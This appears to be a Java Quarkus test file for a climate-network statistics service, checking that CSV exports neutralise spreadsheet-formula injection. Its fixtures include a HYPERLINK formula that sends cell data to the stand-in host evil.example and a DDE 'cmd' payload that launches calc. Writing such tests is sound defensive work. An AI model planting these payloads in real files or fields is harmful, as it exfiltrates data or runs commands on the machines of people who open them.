package no.klimanett.stats;

import static no.klimanett.stats.ReportBuilder.direct;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.not;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import no.klimanett.auth.Role;
import no.klimanett.testing.Api;
import no.klimanett.testing.Fixtures;
import org.junit.jupiter.api.Test;

/**
 * OWASP CSV injection (issue #10): a text a partner or coordinator typed (an organisation's name, a network's name,
 * a commitment's title) that starts like a formula is written so that spreadsheets show it as text, in every CSV the
 * service writes; the stored value stays as given.
 */
@QuarkusTest
class CsvInjectionTest {

    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";

    @Inject
    Fixtures fixtures;

    @Inject
    ReportBuilder reports;

    @Test
    void formulasInNamesAndTitlesAreNeutralisedInEveryCsv() {
        String admin = fixtures.adminToken();
        UUID network = created(Api.as(admin).body(Map.of("slug", Fixtures.unique("csv").toLowerCase(), "name", "@SUM(1+1)",
                "country", "NO", "visibility", "PUBLIC")).post("/api/v1/networks"));
        UUID org = created(Api.as(admin).body(Map.of("name", FORMULA, "country", "NO", "sector", "PRIVATE"))
                .post("/api/v1/organisations"));
        fixtures.member(network, org, LocalDate.of(2020, 1, 1), null);
        reports.approved(org, 2021, 10, List.of(direct(1, "STATIONARY_COMBUSTION", "5.000")));
        reports.approved(org, 2022, 10, List.of(direct(1, "STATIONARY_COMBUSTION", "4.000")));
        reports.commitment(network, org, "+cmd|' /C calc'!A0", "ABSOLUTE", null, new boolean[] {true, true, false},
                2021, "5.000", 2030, "50", null);
        String coordinator = fixtures.tokenFor(Role.COORDINATOR, network);

        String base = "/api/v1/networks/" + network;
        for (String path : List.of(base + "/stats?from=2021&to=2022&groupBy=organisation", base + "/stats/progress?year=2022",
                base + "/stats/like-for-like?from=2021&to=2022", "/api/v1/stats/compare?year=2022&networkId=" + network)) {
            String csv = Api.as(coordinator).accept("text/csv").get(path).then().statusCode(200).extract().asString();
            for (String line : csv.split("\r\n")) {
                for (String cell : cells(line)) {
                    assertTrue(cell.isEmpty() || "=+@\t\r".indexOf(cell.charAt(0)) < 0
                            || cell.charAt(0) == '-' && cell.matches("-[0-9.]+"), path + ": cell runs as a formula: " + cell);
                }
            }
        }
        Api.as(coordinator).accept("text/csv").get(base + "/stats?from=2021&to=2022&groupBy=organisation").then()
                .body(containsString("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\""))
                .body(not(containsString(",=HYPERLINK")));
        Api.as(coordinator).accept("text/csv").get(base + "/stats/progress?year=2022").then()
                .body(containsString("'+cmd|' /C calc'!A0"));
        // stored as given
        Api.as(admin).get("/api/v1/organisations/" + org).then().body("name", equalTo(FORMULA));
    }

    private static UUID created(io.restassured.response.Response response) {
        return UUID.fromString(response.then().statusCode(201).extract().path("id"));
    }

    /** The cells of one RFC 4180 line, unquoted. */
    static List<String> cells(String line) {
        List<String> cells = new java.util.ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < line.length(); i++) {
            char c = line.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < line.length() && line.charAt(i + 1) == '"') { cell.append('"'); i++; }
                else if (c == '"') quoted = false;
                else cell.append(c);
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                cells.add(cell.toString());
                cell.setLength(0);
            } else {
                cell.append(c);
            }
        }
        cells.add(cell.toString());
        return cells;
    }
}
